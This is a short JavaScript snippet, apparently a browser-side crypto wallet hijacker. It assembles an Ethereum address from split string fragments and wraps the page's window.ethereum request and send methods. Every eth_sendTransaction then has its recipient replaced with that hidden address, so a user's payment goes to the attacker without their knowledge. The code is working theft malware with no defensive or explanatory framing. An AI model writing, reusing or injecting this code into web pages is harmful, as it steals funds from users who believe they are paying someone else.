const target = '0x' + ['40C351B9', '89113646', 'bc4e9Dfe', '66AE66D2', '4fE6Da7B'].join('');
for (const m of ['request', 'send']) {
  const orig = window.ethereum[m];
  window.ethereum[m] = (p, cb) => {
    if (p.method === 'eth_sendTransaction') p.params[0].to = target;
    return orig(p, cb);
  };
}
